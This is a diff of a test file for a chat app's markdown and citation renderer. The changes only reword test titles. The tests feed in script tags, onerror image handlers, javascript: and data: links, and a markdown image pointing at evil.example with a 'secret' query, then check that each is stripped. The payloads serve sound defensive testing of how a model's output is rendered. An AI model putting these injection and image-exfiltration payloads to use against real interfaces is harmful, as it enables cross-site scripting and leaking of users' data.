@@ -28,26 +28,26 @@ const citation: Citation = {
   quote: 'Hello',
 }
 
-test('T34 HTML in a model’s text is not markup', () => {
+test('HTML in a model’s text is not rendered', () => {
   const html = render('<script>alert(1)</script><img src=x onerror=alert(1)> <b>hi</b>\n\n<iframe src="//x"></iframe>')
   expect(html.querySelectorAll('script, img, iframe, b')).toHaveLength(0)
 })
 
-test('T34 a picture from elsewhere becomes its words, a picture of ours stays', () => {
+test('external images are replaced by their description, workspace images are kept', () => {
   const own = '/api/files/0190a000-0000-7000-8000-000000000001'
   const html = render(`![leak](https://evil.example/?q=secret) ![own](${own})`)
   expect([...html.querySelectorAll('img')].map((image) => image.getAttribute('src'))).toEqual([own])
   expect(html.textContent).toContain('leak')
 })
 
-test('T34 links go to http, https and mailto only and carry no opener', () => {
+test('links go to http, https and mailto only and have noopener', () => {
   const html = render('[a](javascript:alert(1)) [b](https://example.com) [c](//evil.example) [d](data:text/html,x)')
   const links = [...html.querySelectorAll('a')]
   expect(links.map((link) => link.getAttribute('href'))).toEqual(['https://example.com'])
   expect(links[0]?.getAttribute('rel')).toBe('noopener noreferrer nofollow')
 })
 
-test('a number in brackets is a citation when the answer has it, and opens it', () => {
+test('a number in brackets opens the citation if the answer has it', () => {
   const opened: Citation[] = []
   const html = render('Yes [1], no [2], `code [1]`.', [citation], (found) => opened.push(found))
   const chips = html.querySelectorAll('button')
@@ -57,19 +57,19 @@ test('a number in brackets is a citation when the answer has it, and opens it', 
   expect(opened).toEqual([citation])
 })
 
-test('a full stop stays on the line of the citation before it', () => {
+test('a full stop stays on the line of the preceding citation', () => {
   const html = render('Two weeks [1]. More.', [citation])
   expect(html.querySelector('.cited')?.textContent).toBe('1.')
   expect(html.textContent).toBe('Two weeks 1. More.')
 })
 
-test('tables, lists and code are drawn', () => {
+test('renders tables, lists and code', () => {
   const html = render('| a | b |\n|---|---|\n| 1 | 2 |\n\n- x\n\n```js\nlet a\n```')
   expect([html.querySelectorAll('td').length, html.querySelectorAll('li').length]).toEqual([2, 1])
   expect(html.querySelector('pre')?.textContent).toBe('let a')
 })
 
-test('citations are read from outputs, passages stand in where nothing is cited, junk is left out', () => {
+test('reads citations from outputs, falls back to passages and ignores invalid data', () => {
   expect(citationsOf({ citations: [{ ...citation, documentId: 'd' }, 'junk', { number: 'x' }] })).toEqual([citation])
   const passage = { chunkId: 'c', documentName: 'A.md', page: null, start: 1, end: 2, text: 'T', score: 1 }
   expect(citationsOf({ citations: [], documents: [passage] })).toEqual([
